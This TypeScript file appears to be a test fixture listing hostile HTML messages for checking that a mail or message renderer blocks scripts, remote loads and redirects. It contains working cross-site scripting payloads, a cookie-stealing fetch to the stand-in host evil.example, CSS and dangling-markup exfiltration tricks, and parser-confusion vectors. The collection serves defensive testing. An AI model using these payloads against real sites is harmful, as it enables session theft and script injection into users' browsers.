/** HTML of a message that tries to act on its reader. */
export interface HostileHtml {
  name: string;
  html: string;
  /** Elements that a reader clicks. */
  click?: string;
}

const FOREIGN = 'https://evil.example';
/** Text that a script writes to the console if it runs. */
export const SCRIPT_RAN = 'the script of a message ran';

/** Contains no double quotes, so that it fits into attributes. */
const RUN =
  `console.log('${SCRIPT_RAN}');document.title='taken';document.cookie='taken=1';` +
  `fetch('${FOREIGN}/script?'+document.cookie);parent.postMessage('taken','*');top.location='${FOREIGN}/top'`;
const SCRIPT = `<script>${RUN}</script>`;
const ENCODED = Buffer.from(SCRIPT).toString('base64');

const SCRIPTS: HostileHtml[] = [
  { name: 'a script', html: SCRIPT },
  { name: 'a script of another host', html: `<script src="${FOREIGN}/script.js"></script>` },
  { name: 'a module with an import', html: `<script type="module">import '${FOREIGN}/module.js';${RUN}</script>` },
  { name: 'a script in a shadow root', html: `<div><template shadowrootmode="open">${SCRIPT}</template></div>` },
  {
    name: 'a script that reads cookies',
    html: `<script>new Image().src='${FOREIGN}/?'+document.cookie;${RUN}</script>`,
  },
  {
    name: 'speculation rules',
    html: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${FOREIGN}/next"]}]}</script>${SCRIPT}`,
  },
];

const HANDLERS: HostileHtml[] = [
  { name: 'an image that fails', html: `<img src="data:x" onerror="${RUN}">` },
  { name: 'a drawing that loads', html: `<svg onload="${RUN}"></svg>` },
  { name: 'a body that loads', html: `<body onload="${RUN}">text</body>` },
  { name: 'details that open', html: `<details open ontoggle="${RUN}"><summary>more</summary>text</details>` },
  { name: 'a field that takes the focus', html: `<input autofocus onfocus="${RUN}">` },
  { name: 'a video that fails', html: `<video><source src="data:x" onerror="${RUN}"></video>` },
  { name: 'a style that loads', html: `<style onload="${RUN}"></style>` },
  { name: 'a paragraph to click on', html: `<p id="go" onclick="${RUN}">Click here</p>`, click: '#go' },
];

const LINKS: HostileHtml[] = [
  { name: 'a link with a script', html: `<a id="go" href="javascript:${RUN}">Your order</a>`, click: '#go' },
  {
    name: 'a link over everything',
    html: `<a id="go" href="javascript:${RUN}" style="position:fixed;inset:0;z-index:2147483647">Your order</a>`,
    click: '#go',
  },
  {
    name: 'a link in a drawing, animated to a script',
    html: `<svg width="200" height="60"><a id="go"><animate attributeName="href" values="javascript:${RUN}"/><text x="5" y="20">Your order</text></a></svg>`,
    click: '#go',
  },
  {
    name: 'a link to the top window',
    html: `<a id="go" href="${FOREIGN}/top" target="_top">Your order</a>`,
    click: '#go',
  },
  {
    name: 'a link to a new window',
    html: `<a id="go" href="${FOREIGN}/new" target="_blank">Your order</a>`,
    click: '#go',
  },
  { name: 'a link in the frame', html: `<a id="go" href="${FOREIGN}/frame">Your order</a>`, click: '#go' },
  { name: 'a link that pings', html: `<a id="go" href="#there" ping="${FOREIGN}/ping">Your order</a>`, click: '#go' },
  { name: 'a download', html: `<a id="go" href="data:text/html,x" download="invoice.html">Invoice</a>`, click: '#go' },
  {
    name: 'a link to the application',
    html: '<a id="go" href="/app/settings" target="_top">Your order</a>',
    click: '#go',
  },
];

const FORMS: HostileHtml[] = [
  {
    name: 'a form to another host',
    html: `<form action="${FOREIGN}/form"><input name="password" value="1"><button id="go">Sign in</button></form>`,
    click: '#go',
  },
  {
    name: 'a form to the application',
    html: '<form action="/app/api/logout" method="post" target="_top"><button id="go">Sign in</button></form>',
    click: '#go',
  },
  {
    name: 'a button with a script as its target',
    html: `<form><button id="go" formaction="javascript:${RUN}">Sign in</button></form>`,
    click: '#go',
  },
];

const REDIRECTS: HostileHtml[] = [
  { name: 'a refresh to another host', html: `<meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh">` },
  {
    name: 'a refresh to a document with a script',
    html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${ENCODED}">`,
  },
  {
    name: 'a policy and a cookie of its own',
    html: `<meta http-equiv="content-security-policy" content="default-src * 'unsafe-inline'"><meta http-equiv="set-cookie" content="taken=1">${SCRIPT}`,
  },
  {
    name: 'a base at another host',
    html: `<base href="${FOREIGN}/"><img src="relative.png"><script src="relative.js"></script>`,
  },
];

const FRAMES: HostileHtml[] = [
  { name: 'a frame of another host', html: `<iframe src="${FOREIGN}/frame"></iframe>` },
  { name: 'a frame with a script as its address', html: `<iframe src="javascript:${RUN}"></iframe>` },
  {
    name: 'a frame with a document of its own',
    html: `<iframe srcdoc="&lt;img src='data:x' onerror=&quot;${RUN}&quot;&gt;"></iframe>`,
  },
  { name: 'a frame of the application', html: `<iframe src="/app/settings"></iframe>${SCRIPT}` },
  { name: 'an object of another host', html: `<object data="${FOREIGN}/object"></object>` },
  {
    name: 'an object with a script',
    html: `<object data="data:text/html;base64,${ENCODED}"></object><embed src="${FOREIGN}/embed">`,
  },
  { name: 'an embedded document', html: `<embed src="${FOREIGN}/embed" type="text/html">` },
  {
    name: 'foreign content in a drawing',
    html: `<svg><foreignObject width="9" height="9"><iframe src="${FOREIGN}/svg"></iframe></foreignObject><image href="${FOREIGN}/i.png"/><use href="${FOREIGN}/u.svg#a"/></svg>`,
  },
];

const LOADS: HostileHtml[] = [
  { name: 'an image of another host', html: `<img src="${FOREIGN}/pixel.png">` },
  {
    name: 'images by density',
    html: `<img srcset="${FOREIGN}/1.png 1x, ${FOREIGN}/2.png 2x"><picture><source srcset="${FOREIGN}/3.png"><img></picture>`,
  },
  {
    name: 'an image with dangling markup',
    html: `<img src='${FOREIGN}/?text=<p>The secret of the next paragraph</p>'>`,
  },
  {
    name: 'images of old attributes',
    html: `<table background="${FOREIGN}/t.png"><tr><td>text</td></tr></table><input type="image" src="${FOREIGN}/i.png">`,
  },
  {
    name: 'media',
    html: `<video poster="${FOREIGN}/p.png" src="${FOREIGN}/v.mp4" autoplay></video><audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
  },
  { name: 'an imported style sheet', html: `<style>@import '${FOREIGN}/style.css';</style>text` },
  { name: 'a linked style sheet', html: `<link rel="stylesheet" href="${FOREIGN}/style.css">text` },
  {
    name: 'images of styles',
    html: `<style>p{background:url(${FOREIGN}/b.png);cursor:url(${FOREIGN}/c.cur),auto}p::before{content:url(${FOREIGN}/d.png)}</style><p>text</p>`,
  },
  {
    name: 'a style that reads a value',
    html: `<style>input[value^='s']{background:url(${FOREIGN}/s)}</style><input value="secret">`,
  },
  {
    name: 'a font of another host',
    html: `<style>@font-face{font-family:a;src:url(${FOREIGN}/a.woff2)}p{font-family:a}</style><p>text</p>`,
  },
  {
    name: 'links to fetch before they are needed',
    html: `<link rel="prefetch" href="${FOREIGN}/next"><link rel="preload" as="image" href="${FOREIGN}/i.png"><link rel="modulepreload" href="${FOREIGN}/m.js">`,
  },
  {
    name: 'links to connect before it is needed',
    html: `<link rel="preconnect" href="https://connect.evil.example"><link rel="dns-prefetch" href="https://resolve.evil.example">`,
  },
  {
    name: 'such a link in a frame',
    html: `<iframe srcdoc="&lt;link rel='preconnect' href='https://framed.evil.example'&gt;"></iframe>`,
  },
];

/** Frames and resources that are easily forgotten, and spellings of those above. */
const FORGOTTEN: HostileHtml[] = [
  { name: 'a set of frames', html: `<frameset><frame src="https://frame.evil.example/a"></frameset>` },
  {
    name: 'a set of frames in another',
    html: `<html><head></head><FRAMESET rows="*"><frameset cols="*,*"><FRAME\nsrc=//frames.evil.example/a><frame/src='//frames2.evil.example'></frameset><noframes>x</noframes></FRAMESET></html>`,
  },
  {
    name: 'an image in a drawing, by the old attribute',
    html: `<svg width="9" height="9"><image xlink:href="${FOREIGN}/x.png" width="9" height="9"/></svg>`,
  },
  {
    name: 'an image in a filter',
    html: `<svg width="99" height="99"><filter id="f"><feImage href="${FOREIGN}/fe.png"/></filter><rect width="99" height="99" filter="url(#f)"/></svg>`,
  },
  {
    name: 'a drawing used from another host',
    html: `<svg><use xlink:href="https://use.evil.example/u.svg#a"/></svg><svg><use href="${FOREIGN}/u.svg#b"/></svg>`,
  },
  { name: 'a script in a drawing', html: `<svg><script href="${FOREIGN}/svg.js"/></svg>` },
  {
    name: 'a style in a drawing',
    html: `<svg><style>@import "${FOREIGN}/svg.css"; rect{fill:url(${FOREIGN}/fill.svg#a)}</style><rect width="9" height="9"/></svg>`,
  },
  {
    name: 'a link in a drawing, set to a script',
    html: `<svg width="200" height="60"><a id="go"><set attributeName="href" to="javascript:${RUN}"/><text x="5" y="20">Your order</text></a></svg>`,
    click: '#go',
  },
  {
    name: 'the background of the body',
    html: `<body background="${FOREIGN}/b.png"><table><tr><td background="${FOREIGN}/td.png">text</td></tr></table></body>`,
  },
  {
    name: 'subtitles and sources of media',
    html: `<video autoplay muted><source src="${FOREIGN}/v.webm"><track default kind="subtitles" src="${FOREIGN}/t.vtt"></video>`,
  },
  {
    name: 'sets of images by width and media',
    html: `<picture><source media="(min-width:1px)" srcset="${FOREIGN}/w.png 100w" sizes="100vw"><img src="data:," srcset="${FOREIGN}/x.png 1x"></picture>`,
  },
  {
    name: 'preloaded sets of images',
    html: `<link rel="preload" as="image" imagesrcset="${FOREIGN}/set.png 1x"><link rel="icon" href="${FOREIGN}/favicon.ico">`,
  },
  {
    name: 'an address in an escaped style',
    html: `<p style="background:\\75 r\\6C(${FOREIGN}/e.png)">text</p><style>\\@import 'x';@\\69mport '${FOREIGN}/escaped.css';</style>`,
  },
  {
    name: 'an address in a custom property',
    html: `<style>:root{--a:url(${FOREIGN}/custom.png)}p{background:var(--a)}</style><p>text</p>`,
  },
  {
    name: 'an address in a set of images of a style',
    html: `<style>p{background:image-set('${FOREIGN}/set.png' 1x)}div{background:-webkit-image-set(url(${FOREIGN}/w.png) 1x)}</style><p>text</p><div>text</div>`,
  },
  {
    name: 'an address behind a comment and a broken string',
    html: `<style>a{content:"\n}p{background:/**/url( "${FOREIGN}/c.png" )}/*</style><p>text</p>`,
  },
  {
    name: 'a list, a mask and a cursor of other hosts',
    html: `<ul style="list-style:url(${FOREIGN}/l.png)"><li>text</li></ul><p style="mask-image:url(${FOREIGN}/m.svg);border-image:url(${FOREIGN}/i.png) 9;filter:url(${FOREIGN}/f.svg#a)">text</p>`,
  },
  {
    name: 'a frame in an object that fails',
    html: `<object data="data:,"><iframe src="https://object.evil.example/a"></iframe></object>`,
  },
  {
    name: 'a frame behind an unclosed title of a drawing',
    html: `<svg><title><iframe src="https://title.evil.example/a"></iframe></title></svg>`,
  },
];

/** Text that parsers read in different ways. */
const PARSERS: HostileHtml[] = [
  {
    name: 'an attribute that ends a noscript',
    html: `<noscript><p title="</noscript><img src=data:x onerror=&quot;${RUN}&quot;>"></noscript>`,
  },
  {
    name: 'a style in mathematics',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:x onerror=${RUN.replaceAll("'", '&#39;')}&gt;"><img src="data:x" onerror="${RUN}">`,
  },
  { name: 'a title that ends', html: `<title></title><svg/onload="${RUN}"//>` },
  { name: 'an unclosed comment', html: `<!--><img src="data:x" onerror="${RUN}">-->` },
];

export const HOSTILE_HTML: readonly HostileHtml[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...FORMS,
  ...REDIRECTS,
  ...FRAMES,
  ...LOADS,
  ...FORGOTTEN,
  ...PARSERS,
];
